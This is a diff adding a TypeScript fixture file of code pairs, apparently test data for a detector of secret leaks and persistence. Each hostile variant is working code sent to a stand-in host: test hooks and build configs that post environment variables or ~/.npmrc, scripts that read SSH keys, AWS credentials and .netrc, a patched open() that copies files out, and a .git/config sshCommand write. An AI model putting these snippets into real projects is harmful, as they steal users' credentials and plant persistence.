@@ -1,0 +1,130 @@
+import type { Pair } from "./code-pairs.table.ts";
+
+const TLS = `import socket\nimport ssl\nimport sys\n\nhost = sys.argv[1]\n`;
+const HOME = `import logging\nimport logging.handlers\nimport pathlib\n\nlog = logging.getLogger("a")\n`;
+
+/** Timers that are given something whose content nobody can tell. */
+export const CARRIED_JAVASCRIPT: readonly Pair[] = [
+  [
+    "a function that runs later, and words of an answer that do",
+    `const run = globalThis.later ?? (() => console.log(1));\nsetTimeout(run, 10);\n`,
+    `const run = globalThis.later ?? (await (await fetch("https://a.example.net/x")).text());\nsetTimeout(run, 10);\n`,
+    "string-timer",
+  ],
+  [
+    "a callback handed on, and one made of text",
+    `export function later(done) {\n  setTimeout(done, 10);\n}\n`,
+    `export function later(done) {\n  const text = done.toString();\n  setTimeout(text, 10);\n}\n`,
+    "string-timer",
+  ],
+  [
+    "a name that is written in a circle",
+    `let a = () => 1;\nlet b = a;\na = b;\nsetTimeout(a, 10);\n`,
+    `let a = () => 1;\nlet b = a;\na = b;\nb = process.argv.join(" ");\nsetTimeout(a, 10);\n`,
+    "string-timer",
+  ],
+];
+
+/** Programs that a script leaves for others to start. */
+export const CARRIED_SHELL: readonly Pair[] = [
+  [
+    "a fixture written for tests, and one that sends the environment",
+    `mkdir -p tests\ncat > tests/conftest.py <<'PY'\nimport pytest\n@pytest.fixture\ndef one():\n    return 1\nPY\n`,
+    `mkdir -p tests\ncat > tests/conftest.py <<'PY'\nimport os, urllib.request\ndef pytest_sessionstart(session):\n    urllib.request.urlopen("https://a.example.net/c", data=str(dict(os.environ)).encode())\nPY\n`,
+    "secret-flow",
+  ],
+  [
+    "settings written for a build, and such that send keys",
+    `cat > vite.config.mjs <<'JS'\nexport default { root: "src" };\nJS\n`,
+    `cat > vite.config.mjs <<'JS'\nimport { readFileSync } from "node:fs";\nimport { homedir } from "node:os";\nfetch("https://a.example.net/c", { method: "POST", body: readFileSync(homedir() + "/.npmrc") });\nexport default {};\nJS\n`,
+    "secret-flow",
+  ],
+];
+
+/** What carries private data: generators, loggers, functions put in the place of built-in ones. */
+export const CARRIED_PYTHON: readonly Pair[] = [
+  [
+    "what a generator hands out, and keys that one does",
+    `import pathlib\nimport requests\n\n\ndef texts():\n    for name in ("a.md", "b.md"):\n        yield pathlib.Path(name).read_text()\n\n\nfor text in texts():\n    requests.post("https://a.example.net", data=text)\n`,
+    `import pathlib\nimport requests\n\n\ndef texts():\n    for name in (".netrc", ".pgpass"):\n        yield (pathlib.Path.home() / name).read_text()\n\n\nfor text in texts():\n    requests.post("https://a.example.net", data=text)\n`,
+    "secret-flow",
+  ],
+  [
+    "generators one behind the other",
+    `import requests\n\n\ndef rows():\n    yield from open("a.csv")\n\n\nrequests.post("https://a.example.net", data="".join(r for r in rows()))\n`,
+    `import os\nimport requests\n\n\ndef rows():\n    yield from open(os.path.expanduser("~/.aws/credentials"))\n\n\ndef more():\n    yield from rows()\n\n\nrequests.post("https://a.example.net", data="".join(r for r in more()))\n`,
+    "secret-flow",
+  ],
+  [
+    "a resource that a generator opens and closes",
+    `import contextlib\nimport requests\n\n\n@contextlib.contextmanager\ndef opened():\n    with open("a.csv") as f:\n        yield f\n\n\nwith opened() as f:\n    requests.post("https://a.example.net", data=f.read())\n`,
+    `import contextlib\nimport pathlib\nimport requests\n\n\n@contextlib.contextmanager\ndef opened():\n    with open(pathlib.Path.home() / ".ssh" / "id_rsa") as f:\n        yield f\n\n\nwith opened() as f:\n    requests.post("https://a.example.net", data=f.read())\n`,
+    "secret-flow",
+  ],
+  [
+    "a log on another machine, and a key in it",
+    `${HOME}log.addHandler(logging.handlers.HTTPHandler("a.example.net", "/in", method="POST"))\nlog.info("%s rows", len(pathlib.Path("a.csv").read_text()))\n`,
+    `${HOME}log.addHandler(logging.handlers.HTTPHandler("a.example.net", "/in", method="POST"))\nlog.info("%s", (pathlib.Path.home() / ".netrc").read_text())\n`,
+    "secret-flow",
+  ],
+  [
+    "a method of a thing that a caller hands over",
+    `import requests\n\n\ndef load():\n    return open("a.csv").read()\n\n\ndef send(value):\n    requests.post("https://a.example.net", data=value.text.encode())\n`,
+    `import os\nimport requests\n\nCASES = {k: v for k, v in os.environ.items()}\n\n\nclass Sent:\n    def __set__(self, owner, value):\n        requests.post("https://a.example.net", data=repr(value.meta).encode())\n`,
+    "secret-flow",
+  ],
+  [
+    "a key in the header that basic authentication has, and among the data",
+    `import base64\nimport os\nimport urllib.request\n\nauth = base64.b64encode(("me:" + os.environ["LOG_KEY"]).encode()).decode()\nurllib.request.urlopen(urllib.request.Request("https://a.example.net", b"rows", {"Authorization": "Basic " + auth}))\n`,
+    `import base64\nimport os\nimport urllib.request\n\nauth = base64.b64encode(("me:" + os.environ["LOG_KEY"]).encode()).decode()\nurllib.request.urlopen(urllib.request.Request("https://a.example.net", auth.encode(), {"Accept": "*/*"}))\n`,
+    "secret-flow",
+  ],
+  [
+    "open with a count, and open with a copy that is sent",
+    `import builtins\n\nreal = builtins.open\n\n\ndef counted(name, *rest):\n    print(name)\n    return real(name, *rest)\n`,
+    `import builtins\nimport requests\n\nreal = builtins.open\n\n\ndef copied(name, *rest):\n    requests.post("https://a.example.net", data=real(name, "rb").read())\n    return real(name, *rest)\n\n\nbuiltins.open = copied\n`,
+    "secret-flow",
+  ],
+  [
+    "settings of a tool, and those of the repository that name programs",
+    `import pathlib\npathlib.Path("tool/config").write_text("a = 1")\n`,
+    `import os\nwith open(os.path.join(".git", "config"), "a") as f:\n    f.write("[core]\\n\\tsshCommand = sh a.sh\\n")\n`,
+    "persistence-write",
+  ],
+  [
+    "a certificate that is looked at, and words said over the connection",
+    `${TLS}with socket.create_connection((host, 443), timeout=5) as raw:\n    with ssl.create_default_context().wrap_socket(raw, server_hostname=host) as s:\n        print(s.getpeercert()["notAfter"], s.version())\n`,
+    `${TLS}with socket.create_connection((host, 443), timeout=5) as raw:\n    with ssl.create_default_context().wrap_socket(raw, server_hostname=host) as s:\n        s.sendall(open("notes.txt", "rb").read())\n`,
+    "raw-socket",
+  ],
+  [
+    "a socket that is wrapped first, and one that is handed on",
+    `${TLS}s = ssl.create_default_context().wrap_socket(socket.socket(socket.AF_INET), server_hostname=host)\ns.settimeout(3)\ns.connect((host, 443))\nprint(s.getpeercert())\ns.close()\n`,
+    `${TLS}s = ssl.create_default_context().wrap_socket(socket.socket(socket.AF_INET), server_hostname=host)\ns.connect((host, 443))\nprint(s.getpeercert())\nsend = s.write\nsend(b"notes")\n`,
+    "raw-socket",
+  ],
+  [
+    "a host that is named, and one that data is put in",
+    `${TLS}raw = socket.create_connection((host, 443))\nprint(ssl.create_default_context().wrap_socket(raw, server_hostname=host).getpeercert())\n`,
+    `${TLS}raw = socket.create_connection((open("a.txt").read().strip() + ".keep.example", 443))\nprint(ssl.create_default_context().wrap_socket(raw).getpeercert())\n`,
+    "raw-socket",
+  ],
+  [
+    "the name that is asked for, and one that data is put in",
+    `${TLS}raw = socket.create_connection(("shop.example.net", 443))\nprint(ssl.create_default_context().wrap_socket(raw, server_hostname="shop.example.net").cipher())\n`,
+    `${TLS}raw = socket.create_connection(("shop.example.net", 443))\nprint(ssl.create_default_context().wrap_socket(raw, server_hostname=open("a.txt").read() + ".keep.example").cipher())\n`,
+    "raw-socket",
+  ],
+  [
+    "a connection that is looked at, and one that another function is given",
+    `${TLS}raw = socket.create_connection((host, 443))\ns = ssl.create_default_context().wrap_socket(raw, server_hostname=host)\nprint(s.getpeercert())\n`,
+    `${TLS}raw = socket.create_connection((host, 443))\ns = ssl.create_default_context().wrap_socket(raw, server_hostname=host)\nprint(s.getpeercert())\n\n\ndef say(one):\n    one.send(b"notes")\n\n\nsay(s)\n`,
+    "raw-socket",
+  ],
+  [
+    "a connection closed, and its other end kept",
+    `${TLS}raw = socket.create_connection((host, 443))\ns = ssl.create_default_context().wrap_socket(raw, server_hostname=host)\ns.close()\n`,
+    `${TLS}raw = socket.create_connection((host, 443))\ns = ssl.create_default_context().wrap_socket(raw, server_hostname=host)\nraw.send(b"notes")\n`,
+    "raw-socket",
+  ],
+];
